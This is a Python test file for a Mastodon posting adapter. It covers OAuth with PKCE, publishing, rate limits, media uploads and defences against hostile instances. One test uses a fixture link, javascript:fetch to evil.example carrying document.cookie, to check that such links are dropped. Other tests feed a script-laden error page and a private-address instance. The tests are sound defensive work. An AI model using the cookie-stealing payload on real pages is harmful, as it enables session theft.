"""The Mastodon adapter over real HTTP against a fake instance (tests/fakes/mastodon_api.py)."""

from __future__ import annotations

import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from authlib.integrations.httpx_client import OAuth2Client

from postforge.models.social import Platform
from postforge.platforms.base import (
    AccountCredentials,
    AccountProfile,
    AuthExpired,
    ConnectFailed,
    Published,
    PublishRequest,
    RateLimited,
    RefreshRevoked,
    Rejected,
    Transient,
    Unknown,
)
from postforge.platforms.mastodon import SCOPES, MastodonAdapter, normalize_instance_url
from postforge.platforms.registry import adapter_for
from postforge.settings import load_settings
from tests.fakes.hostile import MiB, endless, hostile_server, trickle
from tests.fakes.mastodon_api import FakeMastodon
from tests.fakes.server import serve
from tests.support.checkpoints import Checkpoints
from tests.support.media import media, opened, payload

REDIRECT_URI = "https://postforge.test/accounts/oauth/callback"


@pytest.fixture
def mastodon() -> Iterator[tuple[FakeMastodon, str]]:
    fake = FakeMastodon(max_characters=500)
    with serve(fake.app) as base_url:
        yield fake, base_url


@pytest.fixture
def adapter() -> Iterator[MastodonAdapter]:
    settings = load_settings(app_url="https://postforge.test", platform_http_timeout_seconds=5)
    with httpx.Client(timeout=5) as client:
        yield MastodonAdapter(settings, http=client)


def account_for(fake: FakeMastodon, base_url: str, token: str | None = None) -> AccountCredentials:
    return AccountCredentials(
        platform_account_id=fake.account.id,
        access_token=token or fake.issue_token(),
        handle="@alice@mastodon.test",
        instance_url=base_url,
    )


def request_for(account: AccountCredentials, text: str = "Hello from PostForge", **kwargs) -> PublishRequest:
    return PublishRequest(text=text, idempotency_key=uuid.uuid4().hex, account=account, **kwargs)


# --- instance addresses ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("mastodon.social", "https://mastodon.social"),
        ("  https://Mastodon.Social/  ", "https://mastodon.social"),
        ("https://mastodon.social/@alice", "https://mastodon.social"),
        ("@alice@mastodon.social", "https://mastodon.social"),
        ("alice@hachyderm.io", "https://hachyderm.io"),
        ("https://social.example.org:8443", "https://social.example.org:8443"),
        ("mäst.example", "https://xn--mst-qla.example"),
        ("http://127.0.0.1:8123", "http://127.0.0.1:8123"),
        ("http://localhost:3000/", "http://localhost:3000"),
    ],
)
def test_instance_addresses_are_normalised(typed: str, expected: str) -> None:
    assert normalize_instance_url(typed) == expected


@pytest.mark.parametrize(
    ("typed", "says"),
    [
        ("", "Enter your Mastodon instance"),
        ("not an instance", "is not a Mastodon instance address"),
        ("mastodon", "is not a Mastodon instance address"),
        ("http://mastodon.social", "http:// is not allowed"),
        ("ftp://mastodon.social", "must start with https://"),
        ("https://10.0.0.5", "not an IP address"),
        ("https://user:pw@mastodon.social", "user name or password"),
        ("https://-bad-.example", "is not a Mastodon instance address"),
        ("https://mastodon.social:99999", "not a valid web address"),
    ],
)
def test_garbage_instance_addresses_are_refused_with_a_reason(typed: str, says: str) -> None:
    with pytest.raises(ConnectFailed, match=says):
        normalize_instance_url(typed)


# --- connecting --------------------------------------------------------------------------------------


def test_the_registry_hands_out_the_mastodon_adapter() -> None:
    adapter = adapter_for(Platform.MASTODON, load_settings())
    assert isinstance(adapter, MastodonAdapter)
    assert adapter.idempotent and adapter.connect_kind == "oauth"


def test_register_app_creates_a_postforge_client_on_the_instance(mastodon, adapter) -> None:
    fake, base_url = mastodon
    client_id, client_secret = adapter.register_app(base_url, REDIRECT_URI)

    registered = fake.apps[client_id]
    assert registered.client_secret == client_secret
    assert registered.name == "PostForge"
    assert registered.redirect_uris == [REDIRECT_URI]
    assert registered.scopes == list(SCOPES)
    assert registered.website == "https://postforge.test"


def test_register_app_on_an_unreachable_instance_says_so(adapter) -> None:
    with serve(FakeMastodon().app) as base_url:
        pass  # the server is gone: its port refuses connections
    with pytest.raises(ConnectFailed, match=r"127\.0\.0\.1:\d+ does not answer as a Mastodon server"):
        adapter.register_app(base_url, REDIRECT_URI)


def test_register_app_refused_by_the_instance_shows_its_message(mastodon, adapter) -> None:
    fake, base_url = mastodon
    fake.faults.fail_next(
        "apps", status=422, body={"error": "Validation failed: Redirect URI must be an absolute URI."}
    )
    with pytest.raises(ConnectFailed, match="refused to register PostForge: Validation failed: Redirect URI"):
        adapter.register_app(base_url, REDIRECT_URI)


def test_a_server_that_is_not_mastodon_is_named_as_such(mastodon, adapter) -> None:
    fake, base_url = mastodon
    fake.faults.fail_next("apps", status=200, body="<html>a blog</html>")
    with pytest.raises(ConnectFailed, match="does not look like a Mastodon instance"):
        adapter.register_app(base_url, REDIRECT_URI)


def test_oauth_client_without_registration_tells_the_caller_to_register(adapter) -> None:
    with pytest.raises(ConnectFailed, match="register_app"):
        adapter.oauth_client(instance_url="https://mastodon.social", redirect_uri=REDIRECT_URI)


def run_authorization(adapter: MastodonAdapter, base_url: str, *, tamper_verifier: bool = False) -> dict:
    """Register, authorize with PKCE (authlib, as the connect service does) and exchange the code."""
    client_id, client_secret = adapter.register_app(base_url, REDIRECT_URI)
    config = adapter.oauth_client_for_app(base_url, client_id, client_secret)
    assert config.pkce
    oauth = OAuth2Client(
        client_id=config.client_id,
        client_secret=config.client_secret,
        scope=config.scope_separator.join(config.scopes),
        redirect_uri=REDIRECT_URI,
        code_challenge_method="S256",
        token_endpoint_auth_method=config.token_endpoint_auth_method,
    )
    verifier = "v" * 64
    url, state = oauth.create_authorization_url(config.authorize_url, state="st4te", code_verifier=verifier)
    answer = httpx.get(url, follow_redirects=False)
    assert answer.status_code == 302, answer.text
    location = answer.headers["location"]
    assert location.startswith(REDIRECT_URI)
    query = parse_qs(urlsplit(location).query)
    assert query["state"] == [state]
    sent_verifier = verifier[:-1] + "w" if tamper_verifier else verifier
    return dict(oauth.fetch_token(config.token_url, code=query["code"][0], code_verifier=sent_verifier))


def test_connecting_registers_authorizes_with_pkce_and_reads_the_profile(mastodon, adapter) -> None:
    fake, base_url = mastodon
    fake.max_characters = 1000
    token = run_authorization(adapter, base_url)

    assert fake.authorize_requests[-1]["code_challenge_method"] == "S256"
    assert fake.token_requests[-1]["code_verifier"] == "v" * 64
    [connected] = adapter.complete_oauth(token, instance_url=base_url)

    assert connected.instance_url == base_url
    assert connected.profile.platform_account_id == fake.account.id
    assert connected.profile.handle == "@alice@mastodon.test"
    assert connected.profile.display_name == "Alice Example"
    assert connected.profile.avatar_url == fake.account.avatar
    assert connected.profile.settings == {"max_characters": 1000}
    assert connected.tokens.refresh_token is None and connected.tokens.expires_at is None
    assert connected.tokens.scopes == " ".join(SCOPES)
    # The token it got really posts.
    outcome = adapter.publish(request_for(account_for(fake, base_url, connected.tokens.access_token)))
    assert isinstance(outcome, Published)


def test_a_wrong_pkce_verifier_is_refused_at_the_token_endpoint(mastodon, adapter) -> None:
    _, base_url = mastodon
    with pytest.raises(Exception, match="invalid_grant"):
        run_authorization(adapter, base_url, tamper_verifier=True)


def test_an_instance_info_failure_does_not_fail_the_connect(mastodon, adapter) -> None:
    fake, base_url = mastodon
    fake.faults.fail_next("instance", status=503)
    [connected] = adapter.complete_oauth({"access_token": fake.issue_token()}, instance_url=base_url)
    assert connected.profile.settings == {"max_characters": 500}
    # Without the instance's own domain the handle uses the address the user gave.
    assert connected.profile.handle == "@alice@" + urlsplit(base_url).netloc


def test_a_refused_token_fails_the_connect_with_the_instance_message(mastodon, adapter) -> None:
    _, base_url = mastodon
    with pytest.raises(
        ConnectFailed, match="did not accept the new token: The access token is invalid"
    ) as caught:
        adapter.complete_oauth({"access_token": "nope"}, instance_url=base_url)
    assert caught.value.http_status == 401


def test_a_token_answer_without_an_access_token_is_refused(mastodon, adapter) -> None:
    _, base_url = mastodon
    with pytest.raises(ConnectFailed, match="did not send an access token"):
        adapter.complete_oauth({"token_type": "Bearer"}, instance_url=base_url)


def test_mastodon_accounts_cannot_refresh(mastodon, adapter) -> None:
    fake, base_url = mastodon
    account = account_for(fake, base_url)
    assert adapter.can_refresh(account) is False
    with pytest.raises(RefreshRevoked, match="reconnect"):
        adapter.refresh(account)


# --- publishing --------------------------------------------------------------------------------------


def test_publish_posts_a_public_status_with_the_idempotency_key(mastodon, adapter) -> None:
    fake, base_url = mastodon
    request = request_for(
        account_for(fake, base_url), text="Spring launch 🌷 https://example.com", language="de"
    )
    outcome = adapter.publish(request)

    [post] = fake.posts
    assert outcome == Published(post.id, url=f"https://mastodon.test/@alice/{post.id}")
    assert post.text == "Spring launch 🌷 https://example.com"
    assert post.visibility == "public"
    assert post.language == "de"
    assert post.idempotency_key == request.idempotency_key
    assert post.received_at == pytest.approx(datetime.now(UTC).timestamp(), abs=10)


def test_the_same_key_twice_makes_one_status(mastodon, adapter) -> None:
    fake, base_url = mastodon
    request = request_for(account_for(fake, base_url))
    first, second = adapter.publish(request), adapter.publish(request)
    assert isinstance(first, Published)
    assert second == first
    assert len(fake.posts) == 1


def test_a_dropped_answer_is_unknown_and_the_retry_finds_the_same_status(mastodon, adapter) -> None:
    fake, base_url = mastodon
    request = request_for(account_for(fake, base_url))
    fake.faults.drop_next("statuses")

    dropped = adapter.publish(request)
    assert isinstance(dropped, Unknown)
    assert len(fake.posts) == 1  # it landed

    retried = adapter.publish(request)
    assert retried == Published(fake.posts[0].id, url=f"https://mastodon.test/@alice/{fake.posts[0].id}")
    assert len(fake.posts) == 1


def test_an_answer_slower_than_the_timeout_is_unknown_then_the_retry_is_one_post(mastodon) -> None:
    fake, base_url = mastodon
    fake.faults.delay_next("statuses", 1.0)
    with httpx.Client(timeout=0.3) as client:
        adapter = MastodonAdapter(load_settings(), http=client)
        request = request_for(account_for(fake, base_url))
        assert isinstance(adapter.publish(request), Unknown)
    with httpx.Client(timeout=5) as client:
        retried = MastodonAdapter(load_settings(), http=client).publish(request)
    assert isinstance(retried, Published)
    assert [post.id for post in fake.posts] == [retried.platform_post_id]


def test_too_long_for_the_instance_is_rejected_with_its_message(mastodon, adapter) -> None:
    fake, base_url = mastodon
    outcome = adapter.publish(request_for(account_for(fake, base_url), text="x" * 501))
    assert outcome == Rejected("Validation failed: Text character limit of 500 exceeded", http_status=422)
    assert fake.posts == []


def test_a_revoked_token_is_auth_expired(mastodon, adapter) -> None:
    fake, base_url = mastodon
    account = account_for(fake, base_url)
    fake.revoke_token(account.access_token)
    assert adapter.publish(request_for(account)) == AuthExpired(
        "The access token is invalid", http_status=401
    )


def test_a_token_without_the_write_scope_is_auth_expired(mastodon, adapter) -> None:
    fake, base_url = mastodon
    account = account_for(fake, base_url, fake.issue_token(scopes="read"))
    outcome = adapter.publish(request_for(account))
    assert outcome == AuthExpired("This action is outside the authorized scopes", http_status=403)


def test_a_forbidden_account_is_rejected_with_the_reason(mastodon, adapter) -> None:
    fake, base_url = mastodon
    fake.faults.fail_next("statuses", status=403, body={"error": "Your login is currently disabled"})
    outcome = adapter.publish(request_for(account_for(fake, base_url)))
    assert outcome == Rejected("Your login is currently disabled", http_status=403)


def test_rate_limited_waits_until_the_iso_reset(mastodon, adapter) -> None:
    fake, base_url = mastodon
    reset = fake.throttle_next("statuses", reset_in_seconds=180)
    outcome = adapter.publish(request_for(account_for(fake, base_url)))
    assert isinstance(outcome, RateLimited)
    assert outcome.retry_at == reset
    assert fake.posts == []


def test_the_statuses_limit_of_the_instance_is_a_rate_limit(mastodon, adapter, monkeypatch) -> None:
    from tests.fakes import mastodon_api

    fake, base_url = mastodon
    monkeypatch.setattr(mastodon_api, "STATUS_LIMIT", 2)
    account = account_for(fake, base_url)
    assert all(isinstance(adapter.publish(request_for(account)), Published) for _ in range(2))
    outcome = adapter.publish(request_for(account))
    assert isinstance(outcome, RateLimited)
    assert outcome.retry_at > datetime.now(UTC)
    assert len(fake.posts) == 2


def test_server_errors_are_transient(mastodon, adapter) -> None:
    fake, base_url = mastodon
    fake.faults.fail_next("statuses", status=503, body={"error": "Service Unavailable"})
    assert adapter.publish(request_for(account_for(fake, base_url))) == Transient(
        "Service Unavailable", http_status=503
    )
    assert fake.posts == []


def test_an_unreachable_instance_is_transient(adapter) -> None:
    fake = FakeMastodon()
    with serve(fake.app) as base_url:
        account = account_for(fake, base_url)
    outcome = adapter.publish(request_for(account))
    assert isinstance(outcome, Transient)
    assert "Could not reach the platform" in outcome.error


def test_an_account_without_a_usable_instance_is_rejected(adapter) -> None:
    account = AccountCredentials(platform_account_id="1", access_token="t", instance_url="")
    outcome = adapter.publish(request_for(account))
    assert isinstance(outcome, Rejected)
    assert "reconnect" in outcome.reason


def test_every_answer_carries_mastodon_rate_limit_headers(mastodon) -> None:
    fake, base_url = mastodon
    token = fake.issue_token()
    answer = httpx.post(
        f"{base_url}/api/v1/statuses", json={"status": "hi"}, headers={"Authorization": f"Bearer {token}"}
    )
    assert answer.headers["X-RateLimit-Limit"] == "300"
    assert answer.headers["X-RateLimit-Remaining"] == "299"
    reset = datetime.fromisoformat(answer.headers["X-RateLimit-Reset"].replace("Z", "+00:00"))
    assert reset > datetime.now(UTC)
    refused = httpx.post(
        f"{base_url}/api/v1/statuses",
        json={"status": "x" * 501},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert refused.status_code == 422
    assert refused.headers["X-RateLimit-Remaining"] == "299"  # a refused status is not counted


# --- metrics -----------------------------------------------------------------------------------------


def test_metrics_are_the_status_counters(mastodon, adapter) -> None:
    fake, base_url = mastodon
    account = account_for(fake, base_url)
    published = adapter.publish(request_for(account))
    status = fake.status(published.platform_post_id)
    status.favourites_count, status.reblogs_count, status.replies_count = 7, 3, 2

    metrics = adapter.fetch_metrics(account, published.platform_post_id)
    assert (metrics.likes, metrics.shares, metrics.comments) == (7, 3, 2)
    assert adapter.fetch_metrics(account, "404") is None


# --- the fake itself -------------------------------------------------------------------------------


def test_the_fake_consent_page_approves_or_denies(mastodon, adapter) -> None:
    fake, base_url = mastodon
    fake.auto_approve = False
    client_id, _ = adapter.register_app(base_url, REDIRECT_URI)
    query = {
        "response_type": "code",
        "client_id": client_id,
        "redirect_uri": REDIRECT_URI,
        "scope": "read write:statuses",
        "state": "s1",
        "code_challenge": "x" * 43,
        "code_challenge_method": "S256",
    }
    page = httpx.get(f"{base_url}/oauth/authorize", params=query)
    assert page.status_code == 200 and "approve=1" in page.text
    approved = httpx.get(f"{base_url}/oauth/authorize", params={**query, "approve": "1"})
    assert parse_qs(urlsplit(approved.headers["location"]).query).keys() == {"code", "state"}
    denied = httpx.get(f"{base_url}/oauth/authorize", params={**query, "deny": "1"})
    assert parse_qs(urlsplit(denied.headers["location"]).query)["error"] == ["access_denied"]
    without_pkce = {key: value for key, value in query.items() if not key.startswith("code_challenge")}
    assert httpx.get(f"{base_url}/oauth/authorize", params=without_pkce).status_code == 400
    assert (
        httpx.get(f"{base_url}/oauth/authorize", params={**query, "scope": "admin:write"}).status_code == 400
    )


# --- the outbound policy: a hostile instance ---------------------------------------------------------

STATUS = b'{"id": "109", "url": "https://mastodon.test/@alice/109", "content": "' + b"-" * 60 + b'"}'


def _own_client_adapter(**settings) -> MastodonAdapter:
    """The adapter as the worker builds it: no injected client, the policy's own."""
    return MastodonAdapter(load_settings(app_url="https://postforge.test", **settings))


def _account_at(instance_url: str) -> AccountCredentials:
    return AccountCredentials(platform_account_id="1", access_token="t", instance_url=instance_url)


def test_an_instance_trickling_its_answer_is_cut_off_at_the_deadline_as_unknown() -> None:
    adapter = _own_client_adapter(platform_http_timeout_seconds=1)
    with hostile_server(trickle(STATUS, interval=0.5)) as server:  # a minute for the whole answer
        started = time.monotonic()
        outcome = adapter.publish(request_for(_account_at(server.url)))
        assert time.monotonic() - started < 15
    assert isinstance(outcome, Unknown)  # the status may exist: the Idempotency-Key covers a retry


def test_an_endless_answer_is_cut_off_at_the_size_cap(monkeypatch) -> None:
    adapter = _own_client_adapter(outbound_max_response_bytes=64 * 1024)
    with hostile_server(endless()) as server:
        outcome = adapter.publish(request_for(_account_at(server.url)))
        time.sleep(0.2)
        assert server.bytes_sent < 20 * MiB
    assert isinstance(outcome, Unknown)
    assert "larger than 64 KiB" in outcome.error


def test_in_production_an_instance_at_a_private_address_is_never_contacted() -> None:
    adapter = _own_client_adapter(outbound_allow_private_hosts=False)
    with hostile_server(trickle(STATUS)) as server:
        instance = f"https://localhost:{server.port}"
        outcome = adapter.publish(request_for(_account_at(instance)))
        with pytest.raises(ConnectFailed, match="private or local network"):
            adapter.register_app(instance, REDIRECT_URI)
        assert server.connections == 0
    assert isinstance(outcome, Rejected)
    assert "private or local network" in outcome.reason


def test_an_html_error_page_is_not_shown_to_the_user(mastodon, adapter) -> None:
    fake, base_url = mastodon
    page = "<html><head><title>502</title></head><body><h1>Bad Gateway</h1><script>x()</script></body></html>"
    fake.faults.fail_next("statuses", status=502, body=page)
    outcome = adapter.publish(request_for(account_for(fake, base_url)))
    assert outcome == Transient("The platform answered 502.", http_status=502)


def test_a_platform_message_is_shown_short_and_plain(mastodon, adapter) -> None:
    fake, base_url = mastodon
    shouting = "Validation failed:\u202e <b>Text</b>\x1b[31m is too long " + "!" * 1000
    fake.faults.fail_next("statuses", status=422, body={"error": shouting})
    outcome = adapter.publish(request_for(account_for(fake, base_url)))
    assert isinstance(outcome, Rejected)
    assert outcome.reason.startswith("Validation failed: Text [31m is too long")
    assert len(outcome.reason) <= 200
    assert not any(c in outcome.reason for c in "<>\u202e\x1b")


def test_an_address_without_a_scheme_that_answers_nothing_is_not_a_mastodon_server(adapter) -> None:
    with pytest.raises(ConnectFailed) as refused:
        adapter.register_app("mastodon.example.invalid", REDIRECT_URI)
    assert refused.value.message.startswith("mastodon.example.invalid does not answer as a Mastodon server")
    assert "try again" not in refused.value.message.lower()


def test_a_post_link_or_avatar_that_is_not_a_web_address_is_dropped(mastodon, adapter) -> None:
    fake, base_url = mastodon
    hostile = {"id": "110", "url": "javascript:fetch('//evil.example/'+document.cookie)", "uri": "data:x"}
    fake.faults.fail_next("statuses", status=200, body=hostile)
    assert adapter.publish(request_for(account_for(fake, base_url))) == Published("110", url="")

    profile = AccountProfile("1", "@alice@mastodon.test", avatar_url="javascript:alert(1)")
    assert profile.avatar_url == ""
    assert AccountProfile("1", "@a", avatar_url="https://cdn.example/a.png").avatar_url == (
        "https://cdn.example/a.png"
    )


# --- media -----------------------------------------------------------------------------------------


@pytest.fixture
def media_adapter(adapter: MastodonAdapter) -> MastodonAdapter:
    adapter.media_poll_interval = 0
    return adapter


def test_an_image_is_uploaded_with_its_description_and_attached(mastodon, media_adapter):
    fake, base_url = mastodon
    image = media("image", size=2048, alt="Two cats on a sofa")
    saved = Checkpoints()

    outcome = media_adapter.publish(
        request_for(account_for(fake, base_url), "Cats", media=(image,), checkpoint=saved)
    )

    [status] = fake.posts
    [uploaded] = [fake.media[media_id] for media_id in status.media_ids]
    assert isinstance(outcome, Published) and outcome.platform_post_id == status.id
    assert uploaded.description == "Two cats on a sofa"
    assert uploaded.data == payload(2048, image.media_id) and uploaded.mime_type == "image/jpeg"
    assert saved.state["media"] == {str(image.media_id): {"id": uploaded.id, "ready": True}}


def test_four_images_are_attached_in_order(mastodon, media_adapter):
    fake, base_url = mastodon
    images = tuple(media("image", size=500 + index) for index in range(4))

    outcome = media_adapter.publish(request_for(account_for(fake, base_url), "", media=images))

    [status] = fake.posts
    assert isinstance(outcome, Published)
    assert [len(fake.media[media_id].data) for media_id in status.media_ids] == [500, 501, 502, 503]


def test_a_video_is_polled_until_processed_then_posted(mastodon, media_adapter):
    fake, base_url = mastodon
    fake.processing_steps = 3

    outcome = media_adapter.publish(
        request_for(account_for(fake, base_url), "Clip", media=(media("video", size=4000),))
    )

    [status] = fake.posts
    assert isinstance(outcome, Published)
    assert fake.media[status.media_ids[0]].processing_left == 0


def test_failed_processing_is_rejected_with_the_instances_message(mastodon, media_adapter):
    fake, base_url = mastodon
    fake.fail_processing.add("video/mp4")

    outcome = media_adapter.publish(request_for(account_for(fake, base_url), "Clip", media=(media("video"),)))

    assert outcome == Rejected(
        "Mastodon could not process the media: Error processing thumbnail for uploaded media", http_status=422
    )
    assert fake.posts == []


def test_a_file_type_the_instance_refuses_is_rejected(mastodon, media_adapter):
    fake, base_url = mastodon

    outcome = media_adapter.publish(
        request_for(account_for(fake, base_url), "Odd", media=(media("image", mime="image/heic"),))
    )

    assert isinstance(outcome, Rejected) and "File content type is invalid" in outcome.reason


def test_processing_past_the_wait_is_transient_and_the_retry_polls_the_same_file(mastodon, media_adapter):
    fake, base_url = mastodon
    fake.processing_steps = 3  # three 206 answers
    media_adapter.media_polls = 2
    account = account_for(fake, base_url)
    clip = media("video")
    saved = Checkpoints()
    key = uuid.uuid4().hex

    def attempt():
        return media_adapter.publish(
            PublishRequest(
                text="Slow",
                idempotency_key=key,
                account=account,
                media=(clip,),
                state=saved.state,
                checkpoint=saved,
            )
        )

    first = attempt()
    second = attempt()

    assert isinstance(first, Transient) and "still processing" in first.error
    assert isinstance(second, Published)
    assert len(fake.media) == 1 and len(fake.posts) == 1


def test_a_retry_after_the_upload_reuses_the_media_and_posts_once(mastodon, media_adapter):
    fake, base_url = mastodon
    account = account_for(fake, base_url)
    images = (media("image"), media("image"))
    saved = Checkpoints()
    key = uuid.uuid4().hex
    fake.faults.drop_next("statuses")  # the status is made, its answer lost

    def attempt():
        return media_adapter.publish(
            PublishRequest(
                text="Once",
                idempotency_key=key,
                account=account,
                media=images,
                state=saved.state,
                checkpoint=saved,
            )
        )

    first = attempt()
    opened_before = [opened[item.media_id] for item in images]
    second = attempt()

    assert isinstance(first, Unknown)
    assert isinstance(second, Published)
    assert len(fake.media) == 2 and len(fake.posts) == 1
    assert second.platform_post_id == fake.posts[0].id
    assert [opened[item.media_id] for item in images] == opened_before


def test_a_lost_upload_answer_is_transient(mastodon, media_adapter):
    fake, base_url = mastodon
    fake.faults.drop_next("media")

    outcome = media_adapter.publish(request_for(account_for(fake, base_url), "Lost", media=(media("image"),)))

    assert isinstance(outcome, Transient) and "nothing was posted" in outcome.error
    assert fake.posts == []


def test_a_saved_file_the_instance_no_longer_has_is_uploaded_again(mastodon, media_adapter):
    fake, base_url = mastodon
    clip = media("video")
    stale = {"media": {str(clip.media_id): {"id": "999", "ready": False}}}

    outcome = media_adapter.publish(
        request_for(account_for(fake, base_url), "Again", media=(clip,), state=stale)
    )

    assert isinstance(outcome, Published)
    assert fake.posts[0].media_ids != ["999"] and len(fake.media) == 1
